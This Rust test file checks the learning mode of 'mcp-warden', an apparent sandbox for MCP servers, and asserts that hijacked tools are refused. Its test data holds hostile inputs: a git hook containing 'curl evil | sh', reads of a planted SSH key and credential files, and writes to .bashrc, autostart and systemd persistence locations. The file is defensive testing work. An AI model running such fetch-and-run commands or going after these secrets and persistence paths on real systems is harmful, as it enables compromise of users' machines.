//! Learning mode, round trip, as root and unprivileged, through the official Python SDK client:
//! `wrap --learn` a client config holding an unknown server (tests/clients/notes_server.py), use
//! it, draft the profile (`learn show`), accept it (`learn accept`, which rewrites the config),
//! replay the session under it with no refusal, and call the tool the learning session did not
//! use: refused, and explained on stderr and in the tool's result. While learning, a hijacked
//! tool still cannot read a planted SSH key, append to `~/.bashrc` or write a git hook in the
//! directory it may write.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: a failed set-up panics with its location

use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use mcp_warden_tests::*;
use serde_json::{Value, json};

/// A user's home with notes, an app's settings, documents, a planted key and a shell rc file.
struct Home {
    _scratch: Scratch,
    path: PathBuf,
    who: Who,
}

impl Home {
    fn new(who: Who) -> Home {
        let scratch = Scratch::new(who);
        let path = scratch.mkdir("home", who);
        for dir in [
            "notes",
            "notes/.git",
            "notes/.git/hooks",
            ".config",
            ".config/notes-app",
            "docs",
            ".ssh",
            ".config/Claude",
            ".local",
            ".local/state",
        ] {
            scratch.mkdir(&format!("home/{dir}"), who);
        }
        scratch.file("home/notes/a.md", "hello from a.md", who);
        scratch.file("home/.config/notes-app/settings.json", "{\"theme\": \"dark\"}", who);
        scratch.file("home/docs/readme.md", "the docs", who);
        scratch.file("home/.ssh/id_rsa", "PLANTED-PRIVATE-KEY", who);
        scratch.file("home/.bashrc", "# rc\n", who);
        Home { _scratch: scratch, path, who }
    }

    fn join(&self, p: &str) -> PathBuf {
        self.path.join(p)
    }

    /// `program ARGS` as the home's user, with HOME and the XDG directories inside it.
    fn command(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let vars = [
            ("HOME", self.path.display().to_string()),
            ("XDG_STATE_HOME", self.join(".local/state").display().to_string()),
            ("XDG_CONFIG_HOME", self.join(".config").display().to_string()),
        ];
        command_with_env(self.who, &vars, program)
    }

    fn warden(&self, args: &[&str]) -> Output {
        let mut c = self.command(warden());
        c.args(args);
        run(c, None, Duration::from_secs(60))
    }

    /// Drives `steps` through the official client against the config's `notes` entry.
    fn session(&self, config: &Path, steps: Value, extra: &[&str]) -> (Vec<Value>, String) {
        let entry = &read_json(config)["mcpServers"]["notes"];
        let mut args: Vec<String> =
            entry["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().into()).collect();
        let at = args.iter().position(|a| a == "--").unwrap();
        for (i, e) in extra.iter().enumerate() {
            args.insert(at + i, e.to_string());
        }
        let mut c = self.command(need(test_env().join("venv/bin/python")));
        c.arg(need(test_env().join("clients/mcp_steps.py"))).arg(steps.to_string()).arg("--");
        c.arg(entry["command"].as_str().unwrap()).args(&args);
        let o = run(c, None, Duration::from_secs(120));
        assert_eq!(o.code(), Some(0), "{:?}: the MCP session failed\n{}", self.who, o.describe());
        let v: Value = serde_json::from_str(o.stdout.trim()).unwrap_or_else(|e| panic!("{e}\n{}", o.describe()));
        (v["steps"].as_array().unwrap().clone(), o.stderr)
    }
}

fn succeeded(o: &Output, what: &str) {
    assert_eq!(o.code(), Some(0), "{what}\n{}", o.describe());
}

fn read_json(path: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// A TCP service on localhost that answers PONG to every connection, for the session's network.
fn pong_server() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.write_all(b"PONG");
        }
    });
    port
}

fn text(step: &Value) -> &str {
    step["text"].as_str().unwrap_or_else(|| panic!("not a tool result: {step}"))
}

/// The refusal lines on stderr, but the two every Python process makes and no grant should allow,
/// refused while learning too: its own `/proc/<pid>/cgroup` (no path grant can name it: the pid
/// changes every run) and glibc's probe of the nscd socket (an AF_UNIX socket, before resolving
/// `localhost`).
fn refusals(stderr: &str) -> Vec<&str> {
    let expected = |l: &str| l.contains("own /proc entries") || l.contains("socket(family=AF_UNIX");
    stderr.lines().filter(|l| l.contains(": refused ") && l.contains("; to allow: ") && !expected(l)).collect()
}

/// The tool's own text: the result's first item (mcp-warden may append what it refused).
fn own_text(step: &Value) -> &str {
    text(step).split("\nmcp-warden refused during this call").next().unwrap_or_default()
}

per_identity!(a_learned_profile_replays_its_session_and_refuses_the_rest, |who: Who| {
    let home = Home::new(who);
    let port = pong_server();
    let python = need(test_env().join("venv/bin/python"));
    let server = need(test_env().join("clients/notes_server.py"));
    let config = home.join(".config/Claude/claude_desktop_config.json");
    let entry = json!({"mcpServers": {"notes": {"command": python, "args": [server, home.join("notes")]}}});
    std::fs::write(&config, serde_json::to_string_pretty(&entry).unwrap()).unwrap();
    chown_to(&config, who);

    // 1. wrap --learn: an unknown Python server starts learning under its entry's name.
    let o = home.warden(&["wrap", "--learn", "--write", config.to_str().unwrap()]);
    succeeded(&o, "wrap --learn --write");
    let args = read_json(&config)["mcpServers"]["notes"]["args"].to_string();
    assert!(args.contains(r#""--learn","notes","--mcp""#) && args.contains(r#""--profile","python""#), "{args}");
    assert!(o.stderr.contains("notes: learning as `notes`"), "wrap says how to go on\n{}", o.describe());

    // 2. The learning session: every tool but read_docs, and a hijacked one.
    let used = json!([
        ["call", "read_note", {"name": "a.md"}],
        ["call", "write_note", {"name": "b.md", "text": "written while learning"}],
        ["call", "read_settings", {}],
        ["call", "ping_port", {"port": port}],
    ]);
    let mut learning = used.as_array().unwrap().clone();
    learning.push(json!(["call", "hijacked", {}]));
    // A git hook inside the writable notes directory would run at the user's next commit.
    learning.push(json!(["call", "write_note", {"name": ".git/hooks/pre-commit", "text": "curl evil | sh"}]));
    let (steps, stderr) = home.session(&config, Value::Array(learning), &[]);
    assert!(refusals(&stderr).iter().all(|l| l.contains("closed to learning runs")), "{stderr}");
    assert_eq!(text(&steps[0]), "hello from a.md");
    assert_eq!(text(&steps[1]), "written");
    assert!(text(&steps[2]).contains("dark") && own_text(&steps[3]) == "PONG", "{steps:?}");
    let hijacked = text(&steps[4]);
    assert!(!hijacked.contains("PLANTED-PRIVATE-KEY"), "the key leaked while learning: {hijacked}");
    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# rc\n", "~/.bashrc was appended to");
    assert!(text(&steps[5]).contains("Read-only file system"), "a git hook was written: {}", text(&steps[5]));
    assert!(!home.join("notes/.git/hooks/pre-commit").exists());
    assert!(stderr.contains("a secret: closed to learning runs"), "{stderr}");
    assert!(stderr.contains("a persistence location: closed to learning runs"), "{stderr}");

    // 3. The draft grants what was used, never the key.
    let o = home.warden(&["learn", "show", "notes"]);
    succeeded(&o, "learn show");
    let notes = home.join("notes").canonicalize().unwrap();
    let settings = home.join(".config/notes-app").canonicalize().unwrap();
    assert!(o.stdout.contains(&format!("\"{}\",", notes.display())), "the notes directory\n{}", o.stdout);
    assert!(o.stdout.contains(&format!("\"{}\",", settings.display())), "the app's settings\n{}", o.stdout);
    assert!(o.stdout.contains(&format!("connect = [\"localhost:{port}\"]")), "by name\n{}", o.stdout);
    assert!(o.stdout.contains("# tools: read_note, write_note"), "attributed to the tools\n{}", o.stdout);
    assert!(!o.stdout.contains("docs/readme.md\","), "an unused path is not granted\n{}", o.stdout);
    let draft: String = o.stdout.lines().filter(|l| !l.starts_with('#')).collect::<Vec<_>>().join("\n");
    assert!(!draft.contains(".ssh") && !draft.contains(".bashrc"), "{draft}");

    // 4. Accept: the profile is written and the entry runs on it, no longer learning.
    let o = home.warden(&["learn", "accept", "notes", config.to_str().unwrap()]);
    succeeded(&o, "learn accept");
    let args = read_json(&config)["mcpServers"]["notes"]["args"].to_string();
    assert!(!args.contains("--learn"), "{args}");
    assert!(args.contains("mcp-warden/profiles/notes.toml"), "{args}");

    // 5. The same session replays under the accepted profile without a refusal.
    // The accepted entry keeps the MCP layer `wrap --learn` turned on: results carry refusals.
    let explained = ["--explain-denials"];
    let (steps, stderr) = home.session(&config, used, &explained);
    assert_eq!(text(&steps[0]), "hello from a.md");
    assert_eq!(text(&steps[1]), "written");
    assert!(text(&steps[2]).contains("dark") && own_text(&steps[3]) == "PONG", "{steps:?}");
    assert_eq!(refusals(&stderr), Vec::<&str>::new(), "the replay was refused something\n{stderr}");

    // 6. The tool the learning session never used is refused, and told why.
    let (steps, stderr) = home.session(&config, json!([["call", "read_docs", {}]]), &explained);
    let result = text(&steps[0]);
    assert!(!result.contains("the docs"), "{result}");
    let readme = home.join("docs/readme.md").canonicalize().unwrap();
    let fix = format!("--allow-read {}", readme.display());
    assert!(result.contains("mcp-warden refused during this call") && result.contains(&fix), "{result}");
    assert!(refusals(&stderr).iter().any(|l| l.contains(&fix)), "{stderr}");
});

per_identity!(a_learning_run_cannot_reach_secrets_or_persistence_around_its_grants, |who: Who| {
    let home = Home::new(who);
    let s = |p: &str| home.join(p);
    for dir in [
        ".cargo",
        ".cargo/registry",
        ".dotfiles",
        ".dotfiles/gnupg",
        ".config/autostart",
        "notes/repo",
        "notes/repo/.git",
        "notes/repo/.git/hooks",
    ] {
        std::fs::create_dir_all(s(dir)).unwrap();
        chown_to(&s(dir), who);
    }
    for (file, text) in [
        (".cargo/credentials.toml", "CARGO-TOKEN"),
        (".dotfiles/gnupg/secring", "GPG-KEY"),
        ("notes/.env", "NOTES-ENV"),
        (".config/app.json", "{}"),
    ] {
        std::fs::write(s(file), text).unwrap();
        chown_to(&s(file), who);
    }
    std::os::unix::fs::symlink(s(".dotfiles/gnupg"), s(".gnupg")).unwrap();
    std::os::unix::fs::symlink(s(".ssh"), s(".mykeys")).unwrap();
    let attempts = [
        "r:~/.cargo/credentials.toml",     // a secret inside a dot-directory the baseline reads
        "r:~/.dotfiles/gnupg/secring",     // the real place of a linked secret
        "r:~/.mykeys/id_rsa",              // a link to ~/.ssh under another name
        "r:~/notes/.env",                  // a .env inside the argument directory it may write
        "w:~/.config/autostart/x.desktop", // a persistence location beside a file argument
        "w:~/.config/systemd/user/x.service",
        "w:~/notes/repo/.git/hooks/pre-commit",
        "w:~/notes/repo/.git/commondir",
        "w:~/.bashrc",
    ];
    let args: Vec<String> = attempts.iter().map(|a| a.replace('~', &home.path.display().to_string())).collect();
    let mut c = home.command(warden());
    c.args(["run", "--learn", "attack", "--profile", "python"]);
    if who == Who::Root {
        c.args(["--require", "monitor=off"]);
    }
    c.arg("--").arg(need(test_env().join("venv/bin/python"))).arg(need(test_env().join("clients/path_probe.py")));
    c.arg(format!("--config={}", s(".config/app.json").display())).arg(s("notes"));
    c.args(&args);
    let o = run(c, None, Duration::from_secs(60));
    assert_eq!(o.code(), Some(0), "{}", o.describe());
    for (attempt, arg) in attempts.iter().zip(&args) {
        let line = o
            .stdout
            .lines()
            .find(|l| l.starts_with(arg.as_str()))
            .unwrap_or_else(|| panic!("{attempt}: no line\n{}", o.describe()));
        assert!(!line.ends_with(": OK"), "{who:?}: {attempt} succeeded while learning\n{}", o.describe());
    }
    assert_eq!(std::fs::read_to_string(s(".bashrc")).unwrap(), "# rc\n");
    assert!(!s(".config/autostart/x.desktop").exists() && !s("notes/repo/.git/hooks/pre-commit").exists());
    // Control: the argument directory (around its .env: a repository's working tree in it) and the
    // file argument are writable while learning.
    let mut c = home.command(warden());
    c.args(["run", "--learn", "attack", "--profile", "python"]);
    if who == Who::Root {
        c.args(["--require", "monitor=off"]);
    }
    c.arg("--").arg(need(test_env().join("venv/bin/python"))).arg(need(test_env().join("clients/path_probe.py")));
    let ok = [format!("w:{}", s("notes/repo/new.md").display()), format!("w:{}", s(".config/app.json").display())];
    c.arg(format!("--config={}", s(".config/app.json").display())).arg(s("notes")).args(&ok);
    let o = run(c, None, Duration::from_secs(60));
    for arg in &ok {
        assert!(o.stdout.contains(&format!("{arg}: OK")), "{who:?}: {arg}\n{}", o.describe());
    }
});

per_identity!(a_learning_session_still_running_is_not_accepted, |who: Who| {
    // A server still learning could add, after `learn show`, what `accept` would then grant unseen.
    let home = Home::new(who);
    let mut c = home.command(warden());
    c.args(["run", "--learn", "sleeper", "--profile", "strict", "--allow-exec"]).arg(probe_dir());
    if who == Who::Root {
        c.args(["--require", "monitor=off"]);
    }
    c.arg("--").arg(probe()).args(["sleep", "60"]);
    c.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut running = c.spawn().unwrap();
    let sessions = home.join(".local/state/mcp-warden/learn/sleeper");
    let started = std::time::Instant::now();
    while std::fs::read_dir(&sessions).map_or(0, |d| d.count()) == 0 && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let o = home.warden(&["learn", "accept", "sleeper"]);
    let launcher = nix::unistd::Pid::from_raw(launcher_pid(&running) as i32);
    let _ = nix::sys::signal::kill(launcher, nix::sys::signal::Signal::SIGKILL);
    let _ = running.wait();
    assert_ne!(o.code(), Some(0), "{}", o.describe());
    assert!(o.stderr.contains("still running"), "{}", o.describe());
    assert!(!home.join(".config/mcp-warden/profiles/sleeper.toml").exists(), "nothing was written");
    // Control: once the run has ended, the same session is accepted.
    let o = home.warden(&["learn", "accept", "sleeper"]);
    succeeded(&o, "learn accept after the run");
});

per_identity!(two_servers_learning_under_one_name_are_not_drafted_as_one, |who: Who| {
    let home = Home::new(who);
    let learn_in = |name: &str, action: &[&str], cwd: &Path| {
        let mut c = home.command(warden());
        c.current_dir(cwd);
        c.args(["run", "--learn", name, "--profile", "strict", "--allow-exec"]).arg(probe_dir());
        if who == Who::Root {
            c.args(["--require", "monitor=off"]);
        }
        c.arg("--").arg(probe()).args(action);
        let o = run(c, None, Duration::from_secs(60));
        assert_eq!(o.code(), Some(0), "{}", o.describe());
    };
    let learn = |name: &str, action: &[&str]| learn_in(name, action, Path::new("/"));
    // Control: two sessions of one server draft one profile.
    learn("one", &["exit", "0"]);
    learn("one", &["exit", "0"]);
    succeeded(&home.warden(&["learn", "show", "one"]), "learn show of one server's sessions");
    // Two servers under one name (two client configs' entries called alike): no draft mixes them.
    learn("two", &["exit", "0"]);
    learn("two", &["sleep", "0"]);
    // One command line run from two directories (`./srv` is another server in each) is two too.
    learn_in("three", &["exit", "0"], &home.join("notes"));
    learn_in("three", &["exit", "0"], &home.join("docs"));
    for (name, verb) in [("two", "show"), ("two", "accept"), ("three", "show")] {
        let o = home.warden(&["learn", verb, name]);
        assert_ne!(o.code(), Some(0), "{name} {verb}: {}", o.describe());
        assert!(o.stderr.contains("ran 2 different servers"), "{name} {verb}: {}", o.describe());
    }
});
